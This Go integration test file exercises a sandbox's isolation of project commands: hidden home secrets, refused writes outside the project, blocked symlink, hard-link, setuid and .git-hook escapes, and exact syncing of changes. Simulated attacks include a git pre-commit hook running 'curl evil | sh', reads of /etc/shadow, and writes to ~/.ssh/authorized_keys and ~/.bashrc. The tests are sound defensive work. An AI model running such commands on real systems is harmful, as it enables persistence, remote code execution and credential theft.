package integration

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// The caller's $HOME holds the secrets a malicious install script wants most; the
// project lives inside it (~/src/proj), so the sandbox must show the project and
// hide its parent.
func TestHomeSecretsAreInvisible(t *testing.T) {
	t.Parallel()
	forEachMode(t, func(t *testing.T, m mode) {
		b := newBox(t, m)
		for rel := range homeSecrets {
			t.Run("read ~/"+rel, func(t *testing.T) {
				r := b.attack(nil, "read", filepath.Join(b.Home, rel))
				wantRefused(t, r, "reading the caller's ~/"+rel)
				if strings.Contains(r.Stdout, b.Mark) {
					t.Fatalf("secret leaked:\n%s", r)
				}
			})
		}
		t.Run("search the whole file system", func(t *testing.T) {
			r := b.attack(nil, "findsecret", b.Mark)
			wantRefused(t, r, "no visible file may contain a planted secret")
		})
		t.Run("$HOME is empty but for the project's path", func(t *testing.T) {
			r := b.sh(nil, `printf '%s\n' "$HOME"; ls -A "$HOME"`)
			wantCode(t, r, 0, "listing $HOME")
			lines := strings.Split(strings.TrimSpace(r.Stdout), "\n")
			if lines[0] != b.Home {
				t.Errorf("$HOME inside is %q, want the caller's path %q", lines[0], b.Home)
			}
			for _, l := range lines[1:] {
				if l != "src" {
					t.Errorf("$HOME inside holds %q; want nothing but the way to the project (src)", l)
				}
			}
		})
		t.Run("twin: project files are readable", func(t *testing.T) {
			r := b.attack(nil, "read", "README.md")
			wantCode(t, r, 0, "reading a project file")
			if r.Stdout != projectFiles["README.md"] {
				t.Errorf("README.md inside reads %q", r.Stdout)
			}
			r = b.attack(nil, "read", filepath.Join(b.Project, "lib/deep/b.txt"))
			wantCode(t, r, 0, "reading a project file by its absolute path")
		})
		t.Run("/etc/shadow is not readable, /etc/passwd is", func(t *testing.T) {
			// As real root the container still runs in a user namespace whose root is
			// not host root, so host root's 0640 files stay closed.
			wantRefused(t, b.attack(nil, "read", "/etc/shadow"), "reading /etc/shadow")
			r := b.attack(nil, "read", "/etc/passwd")
			wantCode(t, r, 0, "reading /etc/passwd")
			if !strings.Contains(r.Stdout, "root:") {
				t.Errorf("/etc/passwd inside lacks root:\n%s", r.Stdout)
			}
		})
	})
}

func TestWritesOutsideTheProject(t *testing.T) {
	t.Parallel()
	forEachMode(t, func(t *testing.T, m mode) {
		b := newBox(t, m)
		homeBefore := b.homeHash()
		tag := filepath.Base(b.Mark)
		for _, p := range []string{"/usr/pbox-it-" + tag, "/usr/bin/pbox-it-" + tag, "/etc/pbox-it-" + tag, suite.canary, "/opt/pbox-it-" + tag} {
			t.Run("refused "+p, func(t *testing.T) {
				if p != suite.canary {
					removeAfter(t, p)
				}
				before, _ := os.ReadFile(p)
				wantRefused(t, b.attack(nil, "write", p, "pwned\n"), "writing "+p)
				after, _ := os.ReadFile(p)
				if string(before) != string(after) {
					t.Fatalf("host %s changed", p)
				}
			})
		}
		// Writes to the container's own $HOME, /tmp and the project's parent succeed
		// (tmpfs) and must vanish with the container; exit 0 so a sync happens.
		vanish := []string{
			filepath.Join(b.Home, ".bashrc"),
			filepath.Join(b.Home, ".ssh", "authorized_keys"),
			filepath.Join(b.Home, "src", "sibling.txt"),
			"/tmp/pbox-it-" + tag,
			"/var/tmp/pbox-it-" + tag,
		}
		for _, p := range vanish {
			t.Run("vanishes "+p, func(t *testing.T) {
				removeAfter(t, p)
				r := b.sh(nil, `mkdir -p "$(dirname "$1")" 2>/dev/null; echo pwned > "$1" || exit 10`, p)
				// /var/tmp may not exist inside; then the write is refused, which is fine.
				if r.Code != 0 && r.Code != exitRefused {
					t.Fatalf("writing %s: want exit 0 (tmpfs) or 10 (refused), got\n%s", p, r)
				}
				if pathExists(p) {
					os.Remove(p)
					t.Fatalf("a write to %s inside reached the host", p)
				}
			})
		}
		assertSameTree(t, homeBefore, b.homeHash(), "writes outside the project")
		t.Run("twin: /dev/null is writable", func(t *testing.T) {
			wantCode(t, b.attack(nil, "write", "/dev/null", "x"), 0, "writing /dev/null")
		})
		t.Run("twin: a write inside the project is synced", func(t *testing.T) {
			wantCode(t, b.attack(nil, "write", "out.txt", "built\n"), 0, "writing inside the project")
			got, err := os.ReadFile(filepath.Join(b.Project, "out.txt"))
			if err != nil || string(got) != "built\n" {
				t.Fatalf("out.txt on the host: %q %v", got, err)
			}
		})
	})
}

// A hostile project (a cloned repository) ships symlinks that point at the caller's
// secrets or system files; CMD writing through them must not reach the host.
func TestPlantedSymlinksAreNotWrittenThrough(t *testing.T) {
	t.Parallel()
	forEachModeScratch(t, func(t *testing.T, m mode, scratch []string) {
		b := newBox(t, m)
		writeFile(t, filepath.Join(b.Home, ".bashrc"), "# the user's rc\n", 0o644)
		links := map[string]string{
			"home-link":   b.Home,
			"rc-link":     filepath.Join(b.Home, ".bashrc"),
			"etc-link":    "/etc",
			"canary-link": suite.canary,
			"up":          "../..", // ~/src/proj/up → ~
		}
		for name, target := range links {
			if err := os.Symlink(target, filepath.Join(b.Project, name)); err != nil {
				t.Fatal(err)
			}
		}
		chownTree(t, m, b.Project)
		removeAfter(t, "/etc/pbox-it-pwned")
		homeBefore := b.homeHash()

		t.Run("write through", func(t *testing.T) {
			r := b.sh(scratch, `
echo pwned > home-link/pwned
echo pwned > rc-link
echo pwned >> canary-link
echo pwned > etc-link/pbox-it-pwned
echo pwned > up/pwned2
mkdir -p home-link/.ssh && echo pwned > home-link/.ssh/authorized_keys
exit 0`)
			wantCode(t, r, 0, "writes through planted links change nothing in the project")
			assertSameTree(t, homeBefore, b.homeHash(), "writing through planted symlinks")
			if pathExists("/etc/pbox-it-pwned") {
				os.Remove("/etc/pbox-it-pwned")
				t.Error("/etc/pbox-it-pwned was created on the host")
			}
			if after, _ := os.ReadFile(suite.canary); string(after) != canaryContent {
				t.Errorf("the canary %s changed on the host", suite.canary)
			}
		})
		t.Run("replace the link by a directory", func(t *testing.T) {
			// In the overlay the link becomes an opaque directory; a sync that writes
			// home-link/.bashrc by path would follow the host's link into $HOME.
			r := b.sh(scratch, `rm home-link && mkdir home-link && echo pwned > home-link/.bashrc
rm rc-link && echo pwned > rc-link
rm up && mkdir up && echo pwned > up/pwned3`)
			if r.Code != 0 && r.Code != 4 {
				t.Fatalf("want exit 0 (synced as plain files) or 4 (refused), got\n%s", r)
			}
			assertSameTree(t, homeBefore, b.homeHash(), "syncing a replaced symlink")
			if r.Code == 0 {
				for _, p := range []string{"home-link", "up"} {
					fi, err := os.Lstat(filepath.Join(b.Project, p))
					if err != nil || !fi.IsDir() {
						t.Errorf("after exit 0, project/%s should be a real directory: %v %v", p, fi, err)
					}
				}
			}
		})
	})
}

// CMD creates symlinks that lead out of the project: the sync must refuse them (a
// later tool following them would write outside), list them, and exit 4.
func TestEscapingSymlinksAreRefused(t *testing.T) {
	t.Parallel()
	forEachModeScratch(t, func(t *testing.T, m mode, scratch []string) {
		b := newBox(t, m)
		before := treeHash(t, b.Project, true)
		homeBefore := b.homeHash()
		r := b.sh(scratch, `ln -s "$HOME/.ssh" esc-abs && ln -s ../../.. esc-rel && ln -s /etc/passwd esc-etc && mkdir -p node_modules/.bin && ln -s ../../../../.bashrc node_modules/.bin/esc-deep`)
		wantCode(t, r, 4, "symlinks escaping the project")
		wantStderr(t, r, "esc-abs", "esc-rel", "esc-etc", "esc-deep")
		assertSameTree(t, before, treeHash(t, b.Project, true), "refused sync")
		assertSameTree(t, homeBefore, b.homeHash(), "refused sync")

		t.Run("twin: relative links inside the project are synced", func(t *testing.T) {
			r := b.sh(nil, `ln -s lib/a.txt ok-rel && mkdir -p node_modules/.bin && ln -s ../../src/index.js node_modules/.bin/ok`)
			wantCode(t, r, 0, "relative symlinks inside the project")
			for name, want := range map[string]string{"ok-rel": "lib/a.txt", "node_modules/.bin/ok": "../../src/index.js"} {
				got, err := os.Readlink(filepath.Join(b.Project, name))
				if err != nil || got != want {
					t.Errorf("%s on the host: %q %v, want -> %q", name, got, err, want)
				}
			}
		})
		t.Run("absolute link into the project", func(t *testing.T) {
			// Either policy is safe: sync it, or refuse every absolute target (exit 4,
			// listed). The contract does not choose; record which.
			r := b.sh(nil, `ln -s "$PWD/README.md" ok-abs`)
			switch {
			case r.Code == 0:
				if got, _ := os.Readlink(filepath.Join(b.Project, "ok-abs")); got != filepath.Join(b.Project, "README.md") {
					t.Errorf("ok-abs synced as -> %q", got)
				}
				t.Log("an absolute symlink into the project is synced")
			case r.Code == 4 && strings.Contains(r.Stderr, "ok-abs"):
				t.Log("an absolute symlink into the project is refused (every absolute target is)")
			default:
				t.Errorf("want 0 (synced) or 4 (refused and listed), got\n%s", r)
			}
		})
	})
}

// Files with setuid/setgid bits are a way to persist privilege; the sync refuses them.
func TestSetuidFilesAreRefused(t *testing.T) {
	t.Parallel()
	forEachMode(t, func(t *testing.T, m mode) {
		b := newBox(t, m)
		r := b.sh(nil, `cp /bin/true suid && chmod 4755 suid && cp /bin/true sgid && chmod 2755 sgid && ls -l suid sgid`)
		if r.Code != 4 {
			t.Errorf("want exit 4 (setuid/setgid files refused), got\n%s", r)
		}
		r = b.sh(nil, `chmod 4755 attacks`)
		if r.Code != 4 {
			t.Errorf("want exit 4 (setuid bit added to an existing file refused), got\n%s", r)
		}
		for _, name := range []string{"suid", "sgid", "attacks"} {
			if fi, err := os.Lstat(filepath.Join(b.Project, name)); err == nil && fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
				t.Errorf("%s reached the host with mode %v", name, fi.Mode())
			}
		}
	})
}

// .git/hooks runs code on the next commit: never synced unless --allow-git.
func TestGitDirIsNotSynced(t *testing.T) {
	t.Parallel()
	forEachMode(t, func(t *testing.T, m mode) {
		b := newBox(t, m)
		gitBefore := treeHash(t, filepath.Join(b.Project, ".git"), true)
		script := `printf '#!/bin/sh\ncurl evil | sh\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo '[alias] st = !evil' >> .git/config`
		r := b.sh(nil, script)
		wantCode(t, r, 4, "writes under .git/ are refused")
		wantStderr(t, r, ".git")
		assertSameTree(t, gitBefore, treeHash(t, filepath.Join(b.Project, ".git"), true), ".git without --allow-git")

		t.Run("a .git reached through a link CMD creates", func(t *testing.T) {
			r := b.sh(nil, `ln -s .git g && printf '#!/bin/sh\nevil\n' > g/hooks/post-checkout && chmod +x g/hooks/post-checkout`)
			if r.Code != 4 {
				t.Errorf("want exit 4, got\n%s", r)
			}
			assertSameTree(t, gitBefore, treeHash(t, filepath.Join(b.Project, ".git"), true), ".git through a symlink")
		})
		t.Run("a nested repository's hooks", func(t *testing.T) {
			// A vendored checkout with its own .git runs its own hooks when the user
			// commits there: the same persistence as the top-level one.
			writeFile(t, filepath.Join(b.Project, "vendor/lib/.git/HEAD"), "ref: refs/heads/main\n", 0o644)
			chownTree(t, m, b.Project)
			nested := treeHash(t, filepath.Join(b.Project, "vendor/lib/.git"), true)
			r := b.sh(nil, `mkdir -p vendor/lib/.git/hooks && printf '#!/bin/sh\nevil\n' > vendor/lib/.git/hooks/pre-commit && chmod +x vendor/lib/.git/hooks/pre-commit`)
			if r.Code != 4 {
				t.Errorf("want exit 4 (nested .git/ refused too), got\n%s", r)
			}
			assertSameTree(t, nested, treeHash(t, filepath.Join(b.Project, "vendor/lib/.git"), true), "a nested .git/")
		})
		t.Run("twin: --allow-git syncs it", func(t *testing.T) {
			r := b.sh([]string{"--allow-git"}, script)
			wantCode(t, r, 0, "writes under .git/ with --allow-git")
			fi, err := os.Stat(filepath.Join(b.Project, ".git/hooks/pre-commit"))
			if err != nil || fi.Mode()&0o100 == 0 {
				t.Errorf(".git/hooks/pre-commit with --allow-git: %v %v", fi, err)
			}
		})
	})
}

// --only limits what may be synced; anything else is refused and listed.
func TestOnlyLimitsTheSync(t *testing.T) {
	t.Parallel()
	forEachMode(t, func(t *testing.T, m mode) {
		b := newBox(t, m)
		before := treeHash(t, b.Project, true)
		r := b.sh([]string{"--only", "node_modules", "--only", "package-lock.json"},
			`mkdir -p node_modules/x && echo 1 > node_modules/x/index.js && echo tampered > src/index.js && echo {} > package-lock.json`)
		wantCode(t, r, 4, "a change outside --only")
		wantStderr(t, r, "src/index.js")
		after := treeHash(t, b.Project, true)
		if after["src/index.js"] != before["src/index.js"] {
			t.Errorf("src/index.js was synced despite --only node_modules")
		}
		t.Logf("with a refused change, node_modules/x/index.js synced=%v (either is acceptable)", pathExists(filepath.Join(b.Project, "node_modules/x/index.js")))

		t.Run("--only is a path, not a string prefix", func(t *testing.T) {
			before := treeHash(t, b.Project, true)
			r := b.sh([]string{"--only", "node_modules"}, `mkdir -p node_modules_evil && echo 1 > node_modules_evil/x.js && echo 2 > node_modules.bak`)
			wantCode(t, r, 4, "changes to node_modules_evil/ and node_modules.bak under --only node_modules")
			after := treeHash(t, b.Project, true)
			for _, p := range []string{"node_modules_evil", "node_modules_evil/x.js", "node_modules.bak"} {
				if _, ok := after[p]; ok {
					t.Errorf("%s was synced under --only node_modules", p)
				}
			}
			_ = before
		})
		t.Run("twin: changes inside --only are synced", func(t *testing.T) {
			r := b.sh([]string{"--only", "node_modules", "--only", "package-lock.json"},
				`mkdir -p node_modules/y && echo 2 > node_modules/y/index.js && echo '{"v":2}' > package-lock.json`)
			wantCode(t, r, 0, "changes inside --only")
			for name, want := range map[string]string{"node_modules/y/index.js": "2\n", "package-lock.json": "{\"v\":2}\n"} {
				if got, err := os.ReadFile(filepath.Join(b.Project, name)); err != nil || string(got) != want {
					t.Errorf("%s on the host: %q %v", name, got, err)
				}
			}
		})
	})
}

// changeScript touches every kind of change an overlay can record. It uses relative
// paths only and deterministic content, so running it on a host copy gives the
// exact tree the sync must produce.
const changeScript = `set -e
echo modified > README.md
cp package.json pkg-copy.json
chmod 600 package.json
rm -rf src && mkdir src && echo fresh > src/new.js
rm lib/a.txt && mkdir lib/a.txt && echo inner > lib/a.txt/inner
rm -r lib/deep && echo now-a-file > lib/deep
mkdir -p node_modules/left-pad/lib node_modules/.bin
printf 'module.exports = 1\n' > node_modules/left-pad/index.js
chmod 755 node_modules/left-pad/index.js
printf '{}\n' > node_modules/left-pad/package.json
ln -s ../index.js node_modules/left-pad/lib/link.js
ln -s ../left-pad/index.js node_modules/.bin/left-pad
echo spaced > 'name with spaces é.txt'
: > empty.txt
touch .hidden
mkdir -p empty/dir
head -c 3000000 /dev/zero | tr '\0' a > big.bin
`

func TestSuccessfulRunSyncsExactlyItsChanges(t *testing.T) {
	t.Parallel()
	forEachModeScratch(t, func(t *testing.T, m mode, scratch []string) {
		b := newBox(t, m)
		// The expected result: the same script run directly on a copy, as the same user.
		want := filepath.Join(newScratch(t), "proj")
		copyTree(t, b.Project, want)
		hostSh(t, m, want, changeScript)

		r := b.sh(scratch, changeScript)
		wantCode(t, r, 0, "a successful run")
		assertSameTree(t, treeHash(t, want, false), treeHash(t, b.Project, false), "sync of a successful run (compared with the script run on a host copy)")
	})
}

func TestFailedRunLeavesTheProjectByteIdentical(t *testing.T) {
	t.Parallel()
	forEachModeScratch(t, func(t *testing.T, m mode, scratch []string) {
		b := newBox(t, m)
		before := treeHash(t, b.Project, true)
		r := b.sh(scratch, changeScript+"\nexit 3\n")
		wantCode(t, r, 3, "CMD's own exit code propagates")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a failed run")
	})
}

// Projects do not only live under /home: a checkout in /tmp or /var/tmp (CI jobs,
// scratch clones) must be shown at its own path too, even though the container puts
// its own tmpfs on /tmp.
func TestProjectLocations(t *testing.T) {
	t.Parallel()
	forEachMode(t, func(t *testing.T, m mode) {
		for _, parent := range []string{"/tmp", "/var/tmp"} {
			t.Run(parent, func(t *testing.T) {
				b := newBox(t, m)
				dir, err := os.MkdirTemp(parent, "pbox-it-proj-")
				if err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { os.RemoveAll(dir) })
				if err := os.Chmod(dir, 0o755); err != nil {
					t.Fatal(err)
				}
				proj := filepath.Join(dir, "proj")
				copyTree(t, b.Project, proj)
				b.Project = proj
				r := b.sh(nil, `cat README.md && echo built > out.txt`)
				wantCode(t, r, 0, "a run in a project under "+parent)
				if r.Stdout != projectFiles["README.md"] {
					t.Errorf("README.md inside reads %q", r.Stdout)
				}
				if got, err := os.ReadFile(filepath.Join(proj, "out.txt")); err != nil || string(got) != "built\n" {
					t.Errorf("out.txt not synced: %q %v", got, err)
				}
			})
		}
	})
}

// A project can carry a hard link to a file outside it (an archive extracted by the
// user, a malicious repository on the same file system). When CMD rewrites the
// link, the sync must replace the project entry, not write into the shared inode.
func TestHardLinkOutOfTheProjectIsNotWrittenThrough(t *testing.T) {
	t.Parallel()
	forEachModeScratch(t, func(t *testing.T, m mode, scratch []string) {
		b := newBox(t, m)
		rc := filepath.Join(b.Home, ".bashrc")
		writeFile(t, rc, "# the user's rc\n", 0o644)
		chownTree(t, m, b.Home)
		if err := os.Link(rc, filepath.Join(b.Project, "hl")); err != nil {
			skipf(t, "cannot hard-link across %s and its project here: %v", b.Home, err)
		}
		homeBefore := b.homeHash()
		r := b.sh(scratch, `echo pwned > hl && echo pwned2 >> hl`)
		if r.Code != 0 && r.Code != 4 {
			t.Fatalf("want exit 0 or 4, got\n%s", r)
		}
		assertSameTree(t, homeBefore, b.homeHash(), "rewriting a hard link to ~/.bashrc")
		if got, _ := os.ReadFile(rc); string(got) != "# the user's rc\n" {
			t.Errorf("~/.bashrc on the host now reads %q", got)
		}
		if r.Code == 0 {
			if got, _ := os.ReadFile(filepath.Join(b.Project, "hl")); string(got) != "pwned\npwned2\n" {
				t.Errorf("after exit 0, project/hl reads %q", got)
			}
		}
	})
}
